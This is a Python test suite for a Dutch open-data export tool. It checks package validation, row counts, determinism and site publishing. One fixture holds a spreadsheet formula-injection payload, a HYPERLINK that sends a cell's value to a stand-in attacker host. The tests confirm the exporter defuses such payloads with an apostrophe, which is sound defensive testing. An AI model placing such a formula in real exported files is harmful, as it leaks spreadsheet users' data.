"""``kansrijk export``: a Frictionless Data Package that validates and matches the repository."""

from __future__ import annotations

import csv
import json
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import frictionless
import jsonschema
import pytest
import yaml

from kansrijk.cli.main import main
from kansrijk.opendata.export import RECORD_FILES
from kansrijk.opendata.tables import TABLES
from kansrijk.records.model import Application, Coalition, Intervention, Repository, Round
from kansrijk.records.schema_fields import describe_field
from kansrijk.records.schema_versions import schema_versions

ROOT = Path(__file__).resolve().parents[2]


def _rows(package: Path, name: str) -> list[dict[str, str]]:
    with (package / f"{name}.csv").open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def _errors(package: Path) -> list[list[str]]:
    report = frictionless.validate(str(package / "datapackage.json"))
    return report.flatten(["resourceName", "type", "note"])


@pytest.fixture(scope="module")
def shipped_package(tmp_path_factory: pytest.TempPathFactory) -> Path:
    out = tmp_path_factory.mktemp("export") / "pakket"
    assert main(["--root", str(ROOT), "export", "--out", str(out)]) == 0
    return out


def test_shipped_package_passes_frictionless_validate(shipped_package: Path) -> None:
    assert _errors(shipped_package) == []
    descriptor = json.loads((shipped_package / "datapackage.json").read_text(encoding="utf-8"))
    assert descriptor["licenses"][0]["name"] == "CC0-1.0"
    assert any("cbs.nl" in source["path"] for source in descriptor["sources"])
    assert descriptor["version"] == schema_versions(ROOT / "schemas")[0].version
    names = {resource["name"] for resource in descriptor["resources"]}
    assert {table.name for table in TABLES} <= names
    assert {"records-interventies", "records-coalities", "records-aanvragen", "records-rondes", "gemeenten"} <= names


def test_row_counts_match_the_repository(shipped_package: Path) -> None:
    repo = Repository(ROOT)
    interventions, coalitions, applications = repo.valid(Intervention), repo.valid(Coalition), repo.valid(Application)
    expected = {
        "interventies": len(interventions),
        "interventie-actielijnen": sum(len(i.action_lines) for i in interventions),
        "interventie-bronnen": sum(len(i.data["bronnen"]) for i in interventions),
        "coalities": len(coalitions),
        "coalitie-partners": sum(len(c.data["partners"]) for c in coalitions),
        "coalitie-gemeenten": sum(len(c.municipalities) for c in coalitions),
        "coalitie-interventies": sum(1 for c in coalitions for _ in c.interventions_in_use()),
        "rondes": len(repo.valid(Round)),
        "aanvragen": len(applications),
        "aanvraag-statushistorie": sum(len(a.history) for a in applications),
    }
    assert expected["interventies"] >= 25
    assert {name: len(_rows(shipped_package, name)) for name in expected} == expected
    assert [row["id"] for row in _rows(shipped_package, "interventies")] == sorted(i.key for i in interventions)


def test_every_json_record_follows_its_schema(shipped_package: Path) -> None:
    repo = Repository(ROOT)
    for kind, stem in (
        ("interventie", "interventies"),
        ("coalitie", "coalities"),
        ("aanvraag", "aanvragen"),
        ("ronde", "rondes"),
    ):
        records = json.loads((shipped_package / "records" / f"{stem}.json").read_text(encoding="utf-8"))
        assert len(records) == len(repo.valid_records(kind))
        validator = jsonschema.Draft202012Validator(repo.schemas[kind].document)
        for record in records:
            assert list(validator.iter_errors(record)) == []
    assert (shipped_package / "schemas" / "interventie.schema.json").read_bytes() == (
        ROOT / "schemas" / "interventie.schema.json"
    ).read_bytes()


def test_field_descriptions_come_from_the_json_schemas(shipped_package: Path) -> None:
    descriptor = json.loads((shipped_package / "datapackage.json").read_text(encoding="utf-8"))
    interventions = next(r for r in descriptor["resources"] if r["name"] == "interventies")
    fields = {f["name"]: f for f in interventions["schema"]["fields"]}
    schema = Repository(ROOT).schemas["interventie"].document
    assert fields["samenvatting"]["title"] == schema["properties"]["samenvatting"]["title"]
    assert fields["erkenning_niveau"]["constraints"]["enum"] == schema["properties"]["erkenning"]["properties"]["niveau"]["enum"]
    assert fields["gecontroleerd_op"]["type"] == "date"
    assert fields["id"]["constraints"]["required"] is True
    assert "required" not in fields.get("kosten", {}).get("constraints", {})
    node, required = describe_field(schema, ("bronnen", "*", "url"))
    assert node["format"] == "uri" and required


def test_export_is_byte_for_byte_deterministic(shipped_package: Path, tmp_path: Path) -> None:
    again = tmp_path / "again"
    assert main(["--root", str(ROOT), "export", "--out", str(again)]) == 0
    first = sorted(p.relative_to(shipped_package) for p in shipped_package.rglob("*") if p.is_file())
    second = sorted(p.relative_to(again) for p in again.rglob("*") if p.is_file())
    assert first == second
    for rel in first:
        assert (shipped_package / rel).read_bytes() == (again / rel).read_bytes(), rel


def test_frictionless_catches_a_broken_package(shipped_package: Path, tmp_path: Path) -> None:
    """Negative control: the validation above can fail."""
    broken = tmp_path / "broken"
    shutil.copytree(shipped_package, broken)
    path = broken / "coalitie-partners.csv"
    path.write_text(path.read_text(encoding="utf-8") + "niet-bestaand,1,Organisatie,geen-type\n", encoding="utf-8")
    types = {error[1] for error in _errors(broken)}
    assert "constraint-error" in types or "foreign-key" in types


def test_demo_corpus_with_every_status_exports_cleanly(tmp_path: Path) -> None:
    corpus, out = tmp_path / "corpus", tmp_path / "pakket"
    assert main(["--root", str(ROOT), "demo-corpus", "--out", str(corpus), "--records", "300"]) == 0
    assert main(["--root", str(corpus), "export", "--out", str(out)]) == 0
    assert _errors(out) == []
    statuses = {row["status"] for row in _rows(out, "aanvraag-statushistorie")}
    assert {"ingediend", "toegekend", "verantwoord"} <= statuses
    repo = Repository(corpus)
    assert len(_rows(out, "aanvraag-statushistorie")) == sum(len(a.history) for a in repo.valid(Application))


def test_export_refuses_an_invalid_repository(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    repo = tmp_path / "repo"
    for name in ("schemas", "vocab", "interventions", "coalitions", "rounds"):
        shutil.copytree(ROOT / name, repo / name)
    record = repo / "interventions" / "voorzorg.yaml"
    record.write_text(record.read_text(encoding="utf-8").replace("status: actief", "status: weg"), encoding="utf-8")
    out = tmp_path / "pakket"
    assert main(["--root", str(repo), "export", "--out", str(out)]) == 1
    err = capsys.readouterr().err
    assert "interventions/voorzorg.yaml" in err and "fout" in err and "niets geschreven" in err
    assert not out.exists()


def test_export_will_not_write_into_an_unrelated_folder(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "mijn-bestand.txt").write_text("belangrijk", encoding="utf-8")
    assert main(["--root", str(ROOT), "export", "--out", str(tmp_path)]) == 2
    assert "niet leeg" in capsys.readouterr().err
    assert sorted(p.name for p in tmp_path.iterdir()) == ["mijn-bestand.txt"]


@pytest.mark.xdist_group("opendata-site")
def test_site_publishes_the_package_and_schemas_at_stable_urls(shipped_package: Path, tmp_path: Path) -> None:
    """A real ``mkdocs build``: the package under open-data/, each schema at its $id, and the explaining page."""
    site = tmp_path / "site"
    result = subprocess.run(
        [sys.executable, "-m", "mkdocs", "build", "--quiet", "--site-dir", str(site)],
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=600,
        env={**os.environ, "NO_MKDOCS_2_WARNING": "1"},
    )
    assert result.returncode == 0, result.stderr
    published = site / "open-data"
    for path in shipped_package.rglob("*"):
        if path.is_file():
            rel = path.relative_to(shipped_package)
            assert (published / rel).read_bytes() == path.read_bytes(), rel
    assert _errors(published) == []
    site_url = yaml.safe_load((ROOT / "mkdocs.yml").read_text(encoding="utf-8").split("\nhooks:")[0])["site_url"]
    for schema_path in (ROOT / "schemas").glob("*.schema.json"):
        schema_id = json.loads(schema_path.read_text(encoding="utf-8"))["$id"]
        assert schema_id.startswith(site_url)
        served = json.loads((site / schema_id.removeprefix(site_url)).read_text(encoding="utf-8"))
        assert served["$id"] == schema_id
    page = (published / "index.html").read_text(encoding="utf-8")
    descriptor = json.loads((shipped_package / "datapackage.json").read_text(encoding="utf-8"))
    for resource in descriptor["resources"]:
        for field in resource.get("schema", {}).get("fields", []) if resource["name"] in {t.name for t in TABLES} else []:
            assert f"<code>{field['name']}</code>" in page, (resource["name"], field["name"])
    assert f"{schema_versions(ROOT / 'schemas')[0].version} (" in page
    assert 'href="datapackage.json"' in page and "creativecommons.org/publicdomain/zero/1.0" in page


def test_record_files_hold_every_record_one_per_line(shipped_package: Path) -> None:
    """``records/*.json`` is the validated data itself, a record per line so a change shows as one diff line."""
    repo = Repository(ROOT)
    for kind, stem in RECORD_FILES.items():
        text = (shipped_package / "records" / f"{stem}.json").read_text(encoding="utf-8")
        records = sorted(repo.valid_records(kind), key=lambda record: record.key)
        assert json.loads(text) == [record.data for record in records], stem
        lines = text.splitlines()
        assert len(lines) == len(records) + 2 if records else lines == ["[]"], stem


def test_schema_tables_check_every_coded_column_against_its_code_list(shipped_package: Path) -> None:
    """A table derived from the schema gets a foreign key for each single-valued field that names a code list;
    the training status was missing from the hand-kept keys."""
    descriptor = json.loads((shipped_package / "datapackage.json").read_text(encoding="utf-8"))
    keys = {
        resource["name"]: {
            (key["fields"][0], key["reference"]["resource"]) for key in resource.get("schema", {}).get("foreignKeys", [])
        }
        for resource in descriptor["resources"]
    }
    assert {("vorm", "trainingsvormen"), ("status", "recordstatussen")} <= keys["trainingen"]
    assert ("soort", "activiteitsoorten") in keys["activiteiten"]
    assert _errors(shipped_package) == []


FORMULA = '=HYPERLINK("https://aanval.example/?d="&A2;"Klik hier")'
AT_LIMIT = "-" + "x" * 299  # samenvatting's maxLength (300) exactly, starting like a formula


def _with_formula_texts(tmp_path: Path) -> Path:
    """A copy of the repository where VoorZorg's texts start like formulas (=, -, @ and a tab)."""
    repo = tmp_path / "repo"
    for name in ("schemas", "vocab", "interventions", "coalitions", "rounds"):
        shutil.copytree(ROOT / name, repo / name)
    record = repo / "interventions" / "voorzorg.yaml"
    text = record.read_text(encoding="utf-8").replace("naam: VoorZorg\n", f"naam: '{FORMULA}'\n", 1)
    text = re.sub(r"samenvatting: >-\n(?:  .*\n)+", f"samenvatting: '{AT_LIMIT}'\n", text, count=1)
    text = re.sub(r"eigenaar: (.*)\n", r"eigenaar: '@\1'\n", text, count=1)
    text = re.sub(r"    titel: (Loket Gezond Leven.*)\n", r'    titel: "\\t\1"\n', text, count=1)
    record.write_text(text, encoding="utf-8")
    return repo


def test_text_that_a_spreadsheet_would_run_gets_an_apostrophe(tmp_path: Path) -> None:
    repo, out = _with_formula_texts(tmp_path), tmp_path / "pakket"
    assert main(["--root", str(repo), "validate"]) == 0
    assert main(["--root", str(repo), "export", "--out", str(out)]) == 0
    voorzorg = next(row for row in _rows(out, "interventies") if row["id"] == "voorzorg")
    assert voorzorg["naam"] == "'" + FORMULA
    assert voorzorg["samenvatting"] == "'" + AT_LIMIT
    assert voorzorg["eigenaar"].startswith("'@Nederlands")
    sources = [row for row in _rows(out, "interventie-bronnen") if row["interventie"] == "voorzorg"]
    assert sources[0]["titel"] == "'\tLoket Gezond Leven, interventiedatabase, VoorZorg"
    assert sources[0]["volgnummer"] == "1"  # numbers are never text cells
    json_record = next(r for r in json.loads((out / "records/interventies.json").read_text()) if r["id"] == "voorzorg")
    assert json_record["naam"] == FORMULA  # the JSON keeps the record as it is
    # The package still validates, with the longest text one character longer than the record's schema allows.
    assert _errors(out) == []
    descriptor = json.loads((out / "datapackage.json").read_text(encoding="utf-8"))
    assert "krijgt in de CSV-bestanden een apostrof (') ervoor" in descriptor["description"]
    assert "-5 blijft een getal" in descriptor["description"]


def test_only_text_columns_ever_get_the_apostrophe(shipped_package: Path) -> None:
    descriptor = json.loads((shipped_package / "datapackage.json").read_text(encoding="utf-8"))
    for resource in descriptor["resources"]:
        if resource.get("format") != "csv" or resource["path"].startswith("vocab/"):
            continue
        types = {field["name"]: field["type"] for field in resource["schema"]["fields"]}
        for row in _rows(shipped_package, resource["name"]):
            for name, value in row.items():
                if types[name] != "string":
                    assert not value.startswith("'"), (resource["name"], name, value)
                else:
                    assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (resource["name"], name, value)


def test_chart_csv_files_keep_numbers_and_guard_text() -> None:
    from kansrijk.site.parts.charts import csv_text

    text = csv_text(("titel", "bedrag"), [("=SUM(A1:A9)", -5), ("-5", 2.5), ("@x", 3), ("+31", -1.25), ("gewoon", 0)])
    assert list(csv.reader(text.splitlines())) == [
        ["titel", "bedrag"],
        ["'=SUM(A1:A9)", "-5"],
        ["'-5", "2.5000"],
        ["'@x", "3"],
        ["'+31", "-1.2500"],
        ["gewoon", "0"],
    ]
